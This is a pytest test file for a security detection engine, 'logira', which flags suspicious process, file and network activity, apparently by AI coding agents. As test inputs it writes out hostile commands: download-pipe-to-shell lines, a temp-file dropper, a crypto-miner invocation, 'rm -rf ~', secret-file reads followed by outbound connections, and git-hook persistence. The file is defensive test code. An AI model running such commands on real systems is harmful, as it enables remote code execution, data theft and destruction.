"""Engine semantics with small custom rules: matchers, lineage, sequences, templates."""

from __future__ import annotations

import pytest

from logira.detect.compile import ParsedArgs
from logira.detect.loader import load_sources
from logira.detect.shell import parse_script, shell_script

_RUNNER: list = []


@pytest.fixture(autouse=True)
def _runner_cls(runner_cls) -> None:
    _RUNNER[:] = [runner_cls]


def _rules(body: str):
    return load_sources([("t.yaml", "rules:\n" + body)])


def _rule(rid: str, when: str, *, message: str = "hit", extra: str = "", severity: str = "high") -> str:
    return (f"  - id: {rid}\n    title: t\n    severity: {severity}\n    category: c\n    description: d\n"
            f"    message: \"{message}\"\n{extra}    when:\n      {when}\n")  # fmt: skip


def _fired(rs, *cases: dict, **kw) -> list[str]:
    r = _RUNNER[0](rs, **kw)
    out = []
    for c in cases:
        out += [d.rule_id for d in r.case(c)]
    return out


@pytest.mark.parametrize(
    ("args", "value_opts", "posix", "shorts", "positionals"),
    [
        (["-rf", "x"], [], False, {"r", "f"}, ["x"]),
        (["-p", "22", "-R", "a", "host", "ls", "-R"], ["-p", "-R"], True, {"p", "R"}, ["host", "ls", "-R"]),
        (["-p22", "host"], ["-p"], False, {"p"}, ["host"]),
        (["--", "-rf"], [], False, set(), ["-rf"]),
        (["-C", "dir", "push", "-f"], ["-C"], False, {"C", "f"}, ["push"]),
    ],
)
def test_getopt_style_parsing(args, value_opts, posix, shorts, positionals) -> None:
    p = ParsedArgs(args, frozenset(value_opts), posix)
    assert (p.shorts, p.positionals) == (shorts, positionals)


def test_long_and_single_dash_long_flags() -> None:
    p = ParsedArgs(["--force=yes", "-destroy", "--all"], frozenset(), False)
    assert p.has(("--force",)) and p.has(("-destroy",)) and p.has(("--all",))
    assert not p.has(("--forc",)) and not p.has(("-x",))


def test_shell_script_extraction_and_pipelines() -> None:
    assert shell_script(["bash", "-lc", "a | b"]) == "a | b"
    assert shell_script(["sh", "-e", "-c", "x", "arg0"]) == "x"
    assert shell_script(["bash", "script.sh", "-c"]) is None
    assert parse_script("curl -s 'http://x/a b' |sudo -u root bash -s; echo ok && FOO=1 env X=2 ls") == [
        [["curl", "-s", "http://x/a b"], ["bash", "-s"]],
        [["echo", "ok"]],
        [["ls"]],
    ]
    assert [["curl", "x"]] in parse_script('echo "$(curl x)"')
    assert parse_script("'unbalanced") == []


def test_quoting_variants_of_download_pipe_shell_all_fire(ruleset) -> None:
    for script in ["curl http://x|sh", '"curl" "http://x" | "sh"', "curl x\nsh", "wget -O- x | /bin/bash"]:
        got = _fired(ruleset, {"exec": ["bash", "-c", script]})
        if "\n" in script:
            assert "exec-download-pipe-shell" not in got  # two commands, not a pipeline
        else:
            assert "exec-download-pipe-shell" in got, script


def test_failed_exec_is_not_judged(ruleset) -> None:
    r = _RUNNER[0](ruleset)
    from logira.model.record import ExecData, Record

    rec = Record(run_id="r", seq=99, ts=1, type="exec", pid=5, ppid=10, summary="",
                 data_json=ExecData(filename="/usr/local/bin/sudo", argv=["sudo", "id"], errno=2))  # fmt: skip
    r.tree.observe(rec)
    assert r.detector.process(rec) == []


def test_parent_and_ancestor_conditions() -> None:
    rs = _rules(
        _rule("shell-under-curl", "exec: {program: [sh, bash]}\n      parent: {program: [curl, wget]}")
        + _rule(
            "exec-under-agent", "exec: {program: [rm]}\n      ancestor: {program: [node], cmdline: claude}"
        )
    )
    assert _fired(rs, {"exec": "sh -c x", "parent": "curl http://x"}) == ["shell-under-curl"]
    assert _fired(rs, {"exec": "sh -c x", "parent": "make"}) == []
    assert _fired(rs, {"exec": "rm x"}) == ["exec-under-agent"]  # the agent (pid 10) is node /usr/bin/claude
    assert _fired(rs, {"exec": "rm x", "ppid": 1}) == []


def test_workspace_home_ports_cidrs_and_dns() -> None:
    rs = _rules(
        _rule("ws-out", "file: {op: [modify], path: ['$HOME/**'], workspace: outside}")
        + _rule("v6-range", "net: {direction: outbound, dst: ['2001:db8::/32'], port: ['8000-8080']}")
        + _rule("dns", "net: {dns: ['*.evil.example']}", message="{dns_qname}")
    )
    home = "/home/a+b(c)"
    kw = {"home": home, "workspace": home + "/proj"}
    assert _fired(rs, {"file": f"modify {home}/notes"}, **kw) == ["ws-out"]
    assert _fired(rs, {"file": f"modify {home}/proj/notes"}, **kw) == []
    assert _fired(rs, {"file": "modify /home/aab(c)/notes"}, **kw) == []  # $HOME is escaped, not a regex
    assert _fired(rs, {"net": "connect tcp [2001:db8::5]:8080"}) == ["v6-range"]
    assert (
        _fired(rs, {"net": "connect tcp [2001:db9::5]:8080"}, {"net": "connect tcp [2001:db8::5]:8081"}) == []
    )
    assert _fired(rs, {"net": "send udp 127.0.0.53:53", "dns": "A.Evil.Example."}) == ["dns"]
    assert _fired(rs, {"net": "send udp 127.0.0.53:53", "dns": "evil.example"}) == []


def test_message_template_is_bounded_and_escaped() -> None:
    rs = _rules(_rule("m", "file: {op: [create]}", message="{op} {path} {{literal}}"))
    r = _RUNNER[0](rs)
    [d] = r.case({"file": "create /tmp/" + "a" * 1000})
    assert d.message == "create /tmp/" + "a" * 154 + "… {literal}"
    [d] = r.case({"file": "create '/tmp/x\x1b[31m\nred'"})
    assert d.message == "create /tmp/x\\x1b[31m\\x0ared {literal}"
    rs = _rules(_rule("m", "exec: {program: [echo]}", message="{cmdline} {cmdline} {cmdline}"))
    [d] = _RUNNER[0](rs).case({"exec": ["echo", "b" * 500]})
    assert len(d.message) == 300 and d.message.endswith("…")


def test_detection_carries_rule_metadata_lineage_and_steps(ruleset) -> None:
    r = _RUNNER[0](ruleset)
    dets = r.case({"events": [
        {"file": "create /tmp/p", "mode": 0o644, "by": "curl -o /tmp/p http://x", "pid": 200},
        {"file": "chmod /tmp/p", "mode": 0o755, "by": "chmod +x /tmp/p", "pid": 201},
        {"exec": "/tmp/p", "pid": 202, "ppid": 201},
    ]})  # fmt: skip
    seqd = [d for d in dets if d.rule_id == "drop-create-chmod-exec"]
    assert len(seqd) == 1
    d = seqd[0]
    recs = {x.seq: x for x in r.records}
    assert [recs[s].type for s in d.steps] == ["file", "file", "exec"]
    assert d.related_event_seq == d.steps[-1]
    assert [e.pid for e in d.lineage] == [202, 201, 10]
    assert d.lineage[0].exe == "/tmp/p" and d.lineage[2].argv == ["node", "/usr/bin/claude"]
    assert (d.severity, d.category, d.tags) == ("high", "execution", ["T1105", "T1204.002"])
    assert d.message == "dropper: created in a temp dir, made executable, then run: /tmp/p"


def test_sequence_state_is_bounded_and_drops_are_counted() -> None:
    seq = ("sequence:\n      scope: process\n      within: 10\n      max_pending: 2\n      steps:\n"
           "        - file: {op: [read], path: ['/secret/*']}\n        - net: {direction: outbound}\n")  # fmt: skip
    body = (
        "  - id: s\n    title: t\n    severity: high\n    category: c\n    description: d\n    message: m\n    "
        + seq
    )
    rs = _rules(body)
    r = _RUNNER[0](rs)
    for pid in (300, 301, 302):
        r.event({"file": f"read /secret/{pid}", "by": "cat", "pid": pid})
    assert r.detector.sequence_drops() == 1
    assert [d.rule_id for d in r.event({"net": "connect tcp 1.2.3.4:443", "pid": 300})] == []  # dropped chain
    assert [d.rule_id for d in r.event({"net": "connect tcp 1.2.3.4:443", "pid": 302})] == ["s"]
    assert [
        d.rule_id for d in r.event({"net": "connect tcp 1.2.3.4:443", "pid": 302})
    ] == []  # completed once


def test_rename_of_sample_hook_is_not_excepted(ruleset) -> None:
    got = _fired(ruleset, {"file": "rename /p/.git/hooks/pre-push.sample /p/.git/hooks/pre-push", "by": "mv"})
    assert "persist-git-hooks" in got
    got = _fired(ruleset, {"file": "rename /p/.git/hooks/a.sample /p/.git/hooks/b.sample", "by": "mv"})
    assert "persist-git-hooks" not in got


def test_hostile_and_degenerate_records_never_raise(ruleset) -> None:
    from logira.model.record import ExecData, FileData, NetData, ProcData, Record

    r = _RUNNER[0](ruleset)
    datas = [
        ("exec", ExecData(filename="", argv=[])),
        ("exec", ExecData(filename="/bin/sh", argv=["sh", "-c"])),
        ("exec", ExecData(filename="/bin/bash", argv=["bash", "-c", "'" + "a|" * 20000])),
        ("exec", ExecData(filename="/usr/bin/rm", argv=["rm", "-rf", "\x00", "~", "", "-"])),
        ("exec", ExecData(filename="/usr/bin/ssh", argv=["ssh", "-", "--", "-R"])),
        ("file", FileData(op="rename", path="", path2="")),
        ("file", FileData(op="symlink", path="/x", path2="")),
        ("file", FileData(op="bogus", path="/etc/x")),
        ("net", NetData(op="connect", proto="tcp", dst_ip="not-an-ip", dst_port=4444)),
        ("net", NetData(op="connect", proto="tcp", dst_ip="fe80::1%eth0", dst_port=80)),
        ("net", NetData(op="send", proto="udp", dst_ip="8.8.8.8", dst_port=53, dns_qname=".")),
        ("proc", ProcData(op="compat_syscall")),
        ("detection", ProcData(op="x")),
    ]
    for i, (t, d) in enumerate(datas):
        rec = Record(run_id="r", seq=1000 + i, ts=i, type=t, pid=4242, summary="", data_json=d)  # type: ignore[arg-type]
        r.tree.observe(rec)
        for det in r.detector.process(rec):
            assert len(det.message) <= 300


def test_dedup_reports_once_per_value_tuple(ruleset) -> None:
    r = _RUNNER[0](ruleset)
    got = r.case({"events": [
        {"net": "connect tcp 140.82.121.3:443", "by": "git push", "pid": 90},
        {"net": "connect tcp 140.82.121.3:443", "pid": 90},
        {"net": "connect tcp 140.82.121.3:443", "by": "git fetch", "pid": 91},  # same exe /usr/bin/git
        {"net": "connect tcp 140.82.121.4:443", "pid": 91},
        {"net": "connect tcp 140.82.121.3:443", "by": "curl x", "pid": 92},
    ]})  # fmt: skip
    assert [d.message for d in got if d.rule_id == "net-public-egress"] == [
        "connect tcp 140.82.121.3:443 by /usr/bin/git",
        "connect tcp 140.82.121.4:443 by /usr/bin/git",
        "connect tcp 140.82.121.3:443 by /usr/bin/curl",
    ]
    assert r.detector.deduplicated == 2
    with pytest.raises(Exception, match=r"t.yaml:8: rule d: dedup field 'nope' is not a field"):
        _rules(_rule("d", "file: {op: [read]}", extra="    dedup: [nope]\n"))


def test_detections_come_out_in_rule_order(ruleset) -> None:
    ids = [lr.rule.id for lr in ruleset.rules]
    got = [d.rule_id for d in _RUNNER[0](ruleset).case({"exec": "/tmp/xmrig --url stratum+tcp://x:1"})]
    assert got == ["drop-exec-from-tmp", "exec-crypto-miner"]
    r = _RUNNER[0](ruleset)
    dets = r.case({"net": "send udp 8.8.8.8:6667", "dns": "metadata.google.internal", "by": "curl"})
    assert [d.rule_id for d in dets] == sorted([d.rule_id for d in dets], key=ids.index)
    assert {d.rule_id for d in dets} == {"net-cloud-metadata", "net-suspicious-port", "net-public-egress"}
